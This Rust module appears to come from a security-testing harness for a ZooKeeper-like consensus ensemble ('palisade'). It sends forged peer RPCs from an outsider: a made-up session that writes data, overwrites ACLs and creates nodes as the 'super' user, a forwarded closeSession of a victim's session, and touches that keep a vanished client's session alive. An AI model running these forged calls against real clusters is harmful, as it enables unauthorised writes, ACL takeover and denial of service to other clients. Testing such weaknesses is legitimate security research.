//! The ensemble's own calls from an outsider: forwarded writes of a made-up session with
//! a super user's identity, a forwarded closeSession of someone else's session, and touches
//! keeping a vanished client's session alive.

use crate::dial::{open, Creds, Peer, Target};
use crate::raft_rpcs::{first_words, short};
use crate::{forge, Attempts};
use palisade::core::member::{Forward, Forwarded};
use palisade::ensemble::raft::rpc::PeerRequest;
use serde_json::{json, Value};
use std::time::{Duration, Instant};

/// The made-up session the forged writes run as.
pub const FORGED_SESSION: i64 = 0x7a7a_0000_0000_0001;

fn super_user() -> Vec<(String, String)> {
    vec![("super".into(), String::new())]
}

fn fwd(session: i64, cxid: i32, what: Forwarded, auth: Vec<(String, String)>) -> Forward {
    Forward {
        session,
        cxid,
        what,
        auth,
    }
}

async fn call(peer: &mut Peer, req: &PeerRequest) -> Value {
    match peer.call(req).await {
        Ok(r) => json!({"answer": short(&r)}),
        Err(e) => json!({"error": e}),
    }
}

/// A made-up session creates itself on the leader, then overwrites and opens `path` as the
/// super user, and creates /forged-forward.
pub async fn forward_write(
    target: &Target,
    at: &Attempts,
    creds: &Creds,
    path: &str,
    marker: &str,
) -> Value {
    let mut out = Vec::new();
    for (way, as_id) in at.pairs() {
        let mut a = json!({"way": way.name(), "as": as_id});
        let mut peer = match open(way, target, as_id, None, creds).await {
            Ok(p) => p,
            Err(e) => {
                a["link"] = json!(e);
                out.push(a);
                continue;
            }
        };
        a["link"] = json!("open");
        let s = FORGED_SESSION;
        let create = PeerRequest::Forward(vec![fwd(
            s,
            0,
            Forwarded::CreateSession { timeout: 30_000 },
            vec![],
        )]);
        a["create_session"] = call(&mut peer, &create).await;
        let writes = PeerRequest::Forward(vec![
            fwd(
                s,
                1,
                Forwarded::Request(forge::set_data_request(1, path, marker.as_bytes())),
                super_user(),
            ),
            fwd(
                s,
                2,
                Forwarded::Request(forge::set_acl_request(2, path)),
                super_user(),
            ),
            fwd(
                s,
                3,
                Forwarded::Request(forge::create_request(
                    3,
                    "/forged-forward",
                    marker.as_bytes(),
                )),
                super_user(),
            ),
        ]);
        a["writes"] = call(&mut peer, &writes).await;
        out.push(a);
    }
    json!({"attempts": out})
}

/// A forwarded closeSession of `victim`.
pub async fn forward_close(target: &Target, at: &Attempts, creds: &Creds, victim: i64) -> Value {
    let mut out = Vec::new();
    for (way, as_id) in at.pairs() {
        let mut a = json!({"way": way.name(), "as": as_id});
        match open(way, target, as_id, None, creds).await {
            Err(e) => a["link"] = json!(e),
            Ok(mut peer) => {
                a["link"] = json!("open");
                let close = PeerRequest::Forward(vec![fwd(
                    victim,
                    0x7777,
                    Forwarded::Request(forge::close_session_request(0x7777)),
                    vec![],
                )]);
                a["close"] = call(&mut peer, &close).await;
            }
        }
        out.push(a);
    }
    json!({"attempts": out})
}

/// Every `every` for `duration`: "session `session` has `left_ms` to live", each way.
pub async fn touch(
    target: &Target,
    at: &Attempts,
    creds: &Creds,
    session: i64,
    left_ms: u64,
    every: Duration,
    duration: Duration,
) -> Value {
    let pairs = at.pairs();
    let mut links: Vec<Option<Peer>> = pairs.iter().map(|_| None).collect();
    let mut counts: Vec<(u64, u64, std::collections::BTreeMap<String, u64>)> =
        pairs.iter().map(|_| (0, 0, Default::default())).collect();
    let start = Instant::now();
    let mut tick = tokio::time::interval(every);
    while start.elapsed() < duration {
        tick.tick().await;
        for (((way, as_id), slot), (sent, answered, why)) in
            pairs.iter().zip(links.iter_mut()).zip(counts.iter_mut())
        {
            if slot.is_none() {
                match open(*way, target, *as_id, None, creds).await {
                    Ok(p) => *slot = Some(p),
                    Err(e) => {
                        *why.entry(first_words(&e)).or_default() += 1;
                        continue;
                    }
                }
            }
            let Some(peer) = slot.as_mut() else { continue };
            *sent += 1;
            match peer
                .call(&PeerRequest::Touch(vec![(session, left_ms)]))
                .await
            {
                Ok(_) => *answered += 1,
                Err(e) => {
                    *why.entry(first_words(&e)).or_default() += 1;
                    *slot = None;
                }
            }
        }
    }
    let out: Vec<Value> = pairs
        .iter()
        .zip(counts)
        .map(|((way, as_id), (sent, answered, why))| {
            json!({"way": way.name(), "as": as_id, "touches_sent": sent,
                   "answered": answered, "failures": why})
        })
        .collect();
    json!({"attempts": out})
}
